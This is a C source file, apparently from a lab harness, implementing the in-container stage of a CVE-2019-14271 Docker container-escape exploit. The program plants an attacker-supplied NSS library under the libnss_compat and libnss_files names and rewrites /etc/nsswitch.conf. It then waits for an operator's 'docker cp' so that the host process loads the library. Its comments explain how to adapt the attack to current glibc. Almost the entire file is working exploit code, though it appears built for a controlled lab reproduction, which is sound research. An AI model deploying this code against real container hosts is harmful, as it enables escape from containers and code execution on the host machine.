/*
 * CVE-2019-14271, the attacker's in-container part: replaces the NSS module glibc will dlopen with
 * the attacker's library (shipped in the image at /nss.so), points /etc/nsswitch.conf at it, and
 * waits for an operator to `docker cp` a file out of the container.
 *
 * glibc 2.34 and later have the "files" and "dns" services built into libc.so.6 and never dlopen
 * libnss_files.so.2; "compat" is still a module. The 2019 exploit replaced libnss_files.so.2 with
 * the image's stock nsswitch.conf ("passwd: files"); on a current glibc the attacker, who owns the
 * container's /etc, names "compat" instead. The library is planted under both names.
 *
 * Usage (inside the container): /attack <host path the payload writes>
 * Creates /.ready when planted, then sleeps (at most 12 s; the manager kills it).
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define LIBDIR "/lib/x86_64-linux-gnu"

static int copy_file(const char *from, const char *to) {
  int in = open(from, O_RDONLY | O_CLOEXEC);
  if (in < 0) return -1;
  /* Replace, not overwrite in place: a new inode, as `cp` over a running library would not be. */
  char tmp[4200];
  snprintf(tmp, sizeof tmp, "%s.new", to);
  int out = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (out < 0) {
    int e = errno;
    close(in);
    errno = e;
    return -1;
  }
  char buf[65536];
  ssize_t n;
  int rc = 0;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, (size_t)n) != n) {
      rc = -1;
      break;
    }
  if (n < 0) rc = -1;
  int e = errno;
  close(in);
  close(out);
  if (rc != 0) {
    errno = e;
    return -1;
  }
  return rename(tmp, to);
}

int main(int argc, char **argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: %s <host marker path>\n", argv[0]);
    return 2;
  }
  if (bw_mkdirs(LIBDIR, 0755) != 0) {
    bw_step("attack: create " LIBDIR, 0, errno, "");
    return 1;
  }
  const char *names[] = {LIBDIR "/libnss_compat.so.2", LIBDIR "/libnss_files.so.2"};
  for (int i = 0; i < 2; i++) {
    if (copy_file("/nss.so", names[i]) != 0) {
      bw_step("attack: plant the NSS module", 0, errno, names[i]);
      return 1;
    }
    bw_step("attack: plant the NSS module", 1, 0, names[i]);
  }
  if (bw_write_file("/etc/nsswitch.conf", "passwd: compat\ngroup: compat\n") != 0) {
    bw_step("attack: write /etc/nsswitch.conf", 0, errno, "");
    return 1;
  }
  bw_step("attack: write /etc/nsswitch.conf", 1, 0, "passwd: compat");
  /* Where the payload writes once it is out of the chroot (the attacker's knowledge of the host). */
  if (bw_write_file("/etc/bw-target", argv[1]) != 0 || bw_write_file("/.ready", "") != 0) {
    bw_step("attack: write the payload's configuration", 0, errno, "");
    return 1;
  }
  sleep(12);
  return 0;
}
